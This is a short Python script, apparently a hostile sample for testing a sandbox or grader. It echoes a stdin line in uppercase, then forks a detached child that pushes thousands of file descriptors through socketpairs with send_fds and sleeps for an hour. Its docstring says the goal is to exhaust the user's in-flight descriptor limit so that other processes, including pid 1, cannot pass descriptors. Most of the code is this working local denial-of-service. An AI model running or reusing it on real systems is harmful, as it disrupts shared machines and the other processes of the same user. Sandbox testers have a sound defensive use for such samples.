"""A command leaves thousands of descriptors on their way between its sockets, so that pid 1 of the same user can send none."""

import os
import socket
import sys
import time


def double(number):
    return 2 * number


def attack(key):
    return "later"


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper(), flush=True)
    if os.fork() == 0:
        os.setsid()
        pairs = [socket.socketpair() for _ in range(40)]
        try:
            for near, _ in pairs:
                for _ in range(4):
                    socket.send_fds(near, [b"x"], [0] * 200)
        except OSError:
            pass
        time.sleep(3600)
    time.sleep(0.2)
